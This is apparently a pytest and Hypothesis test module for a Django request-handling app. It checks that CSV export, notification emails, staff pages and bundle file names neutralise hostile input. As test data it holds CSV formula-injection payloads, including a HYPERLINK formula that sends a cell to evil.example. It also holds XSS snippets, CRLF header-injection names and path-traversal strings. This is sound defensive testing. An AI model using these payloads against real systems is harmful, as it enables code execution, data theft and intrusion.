"""Hostile values that reach an output: a CSV cell, an email or staff page, a file name in a bundle.

SQL is not here: identifiers with quotes and LIKE wildcards, and identifiers that look like
SQL, are run against the real estate database in tests/fulfilment/connectors/test_sql.py
(test_identifiers_with_quotes_and_sql_wildcards_match_only_themselves and
test_an_identifier_that_looks_like_sql_matches_nothing).
"""

from __future__ import annotations

import csv
import email
import hashlib
import io
import json
from decimal import Decimal
from email import policy
from typing import Any

import pytest
from django.core import mail
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from requests_app.fulfilment.bundles.names import MAX_COMPONENT, NameRegistry, safe_component
from requests_app.fulfilment.bundles.spool import FORMULA_START, DatasetSpool, csv_cell
from requests_app.notifications.emails import email_send, notify
from tests.factories import DataSubjectRequestFactory
from tests.staff.test_permissions import FAST_HASHERS, client_for, make_cast

pytestmark = pytest.mark.django_db

PROPERTY = settings(
    derandomize=True,
    database=None,
    deadline=None,
    max_examples=200,
    suppress_health_check=[HealthCheck.too_slow],
)

# --- CSV: no cell a spreadsheet would run -------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=", "+", "-", "@",
]  # fmt: skip
texts = st.one_of(
    st.sampled_from(FORMULAS),
    st.builds(str.__add__, st.sampled_from([*sorted(FORMULA_START), "", "'", " ", "\n"]), st.text(max_size=30)),
)
# What a store hands the export: JSON values, and the types the SQL and Redis drivers return.
values = st.recursive(
    st.one_of(
        texts,
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(),
        st.decimals(),
        st.datetimes(),
        st.dates(),
        st.times(),
        st.uuids(),
        st.binary(max_size=20),
    ),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=10), inner, max_size=3)),
    max_leaves=6,
)


def is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def check_cell(value: Any, cell: str) -> None:
    """A cell starts like a formula only when it is a number, written as the number it is."""
    if cell[:1] in FORMULA_START:
        assert is_number(value), (value, cell)
        assert cell == str(value)


@given(values)
@PROPERTY
def test_no_value_becomes_a_csv_cell_a_spreadsheet_would_run(value: Any) -> None:
    check_cell(value, csv_cell(value))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_keeps_its_text_behind_an_apostrophe(formula: str) -> None:
    assert csv_cell(formula) == "'" + formula


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-12.50")])
def test_a_negative_number_stays_a_number(number: int | float | Decimal) -> None:
    assert csv_cell(number) == str(number)


HEADER = ("name", "note", "amount")


def spooled_rows(spool: DatasetSpool) -> list[list[str]]:
    spool.flush()
    spool.csv_file.seek(0)
    return list(csv.reader(io.StringIO(spool.csv_file.read().decode("utf-8"), newline="")))


@given(st.lists(st.dictionaries(st.sampled_from([*HEADER, "=extra", "+x"]), values, max_size=5), max_size=8))
@settings(PROPERTY, max_examples=100)  # each example opens two temporary files
def test_no_record_puts_a_cell_a_spreadsheet_would_run_in_the_spooled_csv(records: list[dict[str, Any]]) -> None:
    spool = DatasetSpool(system="s", dataset="d", folder="s", stem="d", header=HEADER, sample_limit=3)
    try:
        for record in records:
            spool.add(record)
        header, *rows = spooled_rows(spool)
    finally:
        spool.close()

    assert header == [*HEADER, "_extra"]
    assert len(rows) == len(records)
    for record, row in zip(records, rows, strict=True):
        assert len(row) == len(HEADER) + 1
        for name, cell in zip(HEADER, row, strict=False):
            check_cell(record.get(name), cell)
        assert row[-1][:1] in ("", "{")  # columns the map does not name, as one JSON object


def test_the_spooled_csv_neutralises_every_formula_and_keeps_the_json_lines_exact() -> None:
    spool = DatasetSpool(system="s", dataset="d", folder="s", stem="d", header=("note",), sample_limit=0)
    try:
        for formula in FORMULAS:
            spool.add({"note": formula, "=cmd": formula})
        _, *rows = spooled_rows(spool)
        spool.jsonl_file.seek(0)
        lines = spool.jsonl_file.read().decode("utf-8").splitlines()
    finally:
        spool.close()

    assert [row[0] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [json.loads(row[1]) for row in rows] == [{"=cmd": formula} for formula in FORMULAS]
    assert [json.loads(line)["note"] for line in lines] == FORMULAS


def test_a_column_name_that_looks_like_a_formula_is_neutralised_in_the_csv_header() -> None:
    spool = DatasetSpool(system="s", dataset="d", folder="s", stem="d", header=(FORMULAS[0],), sample_limit=0)
    try:
        header, *_ = spooled_rows(spool)
    finally:
        spool.close()

    assert header[0] == "'" + FORMULAS[0]


# --- HTML and headers: a name in our emails and staff pages -------------------------------

IMG = "<img src=x onerror=alert(1)>"
HOSTILE_NAMES = [
    IMG,
    f"Ada\r\nBcc: evil@example.net\r\n\r\n{IMG}",
    f"Ada\nSubject: You won\n{IMG}",
    f'"><script>alert(1)</script>{IMG}',
]
CONTEXTS = {
    "acknowledgement": {"verify_url": "https://p.example/request/verify/T/", "code": "1234-5678"},
    "verification": {"verify_url": "https://p.example/request/verify/T/", "code": "1234-5678"},
    "status_link": {"status_url": "https://p.example/request/status/S/"},
}  # the notifications that greet the subject by name


@pytest.mark.parametrize("kind", sorted(CONTEXTS))
@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["img", "crlf bcc", "lf subject", "script"])
def test_a_hostile_name_is_escaped_in_the_html_and_never_reaches_a_header(kind: str, name: str) -> None:
    request = DataSubjectRequestFactory.create(
        subject_name=name, agent_name=name, agent_email="agent@agency.example", subject_email="ada@example.org"
    )
    message = notify(request=request, kind=kind, to="ada@example.org", context=CONTEXTS[kind])

    assert "<img" not in message.body_html and "<script" not in message.body_html
    assert "&lt;img src=x onerror=alert(1)&gt;" in message.body_html
    assert "\r" not in message.subject and "\n" not in message.subject
    assert email_send(message.pk) is True
    (sent,) = mail.outbox
    assert sent.recipients() == ["ada@example.org"]
    message.refresh_from_db()
    delivered = email.message_from_bytes(message.raw.read(), policy=policy.default)
    assert "Bcc" not in delivered and delivered.get_all("Subject") == [message.subject]
    assert delivered["To"] == "ada@example.org"


def test_a_hostile_name_is_escaped_on_the_staff_queue_and_request_pages(settings: Any) -> None:
    settings.PASSWORD_HASHERS = FAST_HASHERS
    staff = client_for(make_cast().bob)
    request = DataSubjectRequestFactory.create(
        subject_name=IMG, agent_name=f'"><script>alert(1)</script>{IMG}', agent_email="agent@agency.example"
    )

    for path in ("/staff/requests/", f"/staff/requests/{request.reference}/"):
        body = staff.get(path).content.decode()
        assert "<img" not in body and "<script>alert(1)" not in body, path
        assert "&lt;img src=x onerror=alert(1)&gt;" in body, path


# --- file names inside a bundle -----------------------------------------------------------

NAME_PIECES = [
    "../", "..", ".", "/", "\\", "\x00", "CON", "con", "NUL", "LPT1", "COM\u00b9", "\uff0e\uff0e\uff0f", "\uff3c",
    "\u2215", "\u2044", "\u202e", "\u200b", "\ufeff", "a", "Users", "users", "\u0130", "\u212a", "ﬀ", " ", "\t",
    "\n", "~", ":", "*", "?", "x" * 80,
]  # fmt: skip
names = st.one_of(
    st.text(max_size=90),
    st.lists(st.one_of(st.sampled_from(NAME_PIECES), st.text(max_size=5)), max_size=8).map("".join),
)


def check_component(component: str) -> None:
    """One plain component: it stays in its folder and reads the same on every file system."""
    assert component and component.isascii() and component.isprintable()
    assert "/" not in component and "\\" not in component and "\x00" not in component
    # ".." inside a component ("a..b") is two dots in a name; it climbs only as the whole component.
    assert component not in (".", "..") and not component.startswith(".")
    assert len(component) <= MAX_COMPONENT + 11
    assert component.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}


@given(names)
@PROPERTY
def test_any_name_becomes_one_plain_path_component(name: str) -> None:
    check_component(safe_component(name))


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "..\\..\\boot.ini", "CON", "con.txt", "a\x00b", "\uff0e\uff0e\uff0fetc\uff0fpasswd"]
)
def test_a_path_name_or_device_name_becomes_a_plain_component_of_its_own(name: str) -> None:
    component = safe_component(name)

    check_component(component)
    assert component != name


@given(st.lists(names, max_size=20))
@PROPERTY
def test_the_registry_gives_every_name_its_own_component_whatever_the_names(given_names: list[str]) -> None:
    registry = NameRegistry()
    components = [registry.component(name) for name in given_names]

    for component in components:
        check_component(component)
    by_name = dict(zip(given_names, components, strict=True))
    assert len({c.casefold() for c in by_name.values()}) == len(by_name)
    assert [registry.component(name) for name in given_names] == components  # stable


def test_a_name_made_to_look_like_the_fallback_of_another_still_gets_its_own_component() -> None:
    registry = NameRegistry()
    first = safe_component("a/b")
    crafted = f"{first}-{hashlib.sha256(b'a/b').hexdigest()[:24]}"
    components = [registry.component(name) for name in (crafted, first, "a/b")]

    assert len(set(components)) == 3


def test_hostile_names_of_many_kinds_never_share_a_component() -> None:
    registry = NameRegistry()
    hostile = ["../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "etc/passwd", "etc_passwd", "CON", "con", "_CON", "a\x00b"]
    hostile += ["a_b", "a/b", "a\\b", "\uff0e\uff0e\uff0fetc", "Users", "users", "USERS", "a..b", "a.b"]
    components = [registry.component(name) for name in hostile]

    assert len({c.casefold() for c in components}) == len(hostile)
    assert components[hostile.index("a..b")] == "a..b"  # two dots inside a name climb nowhere
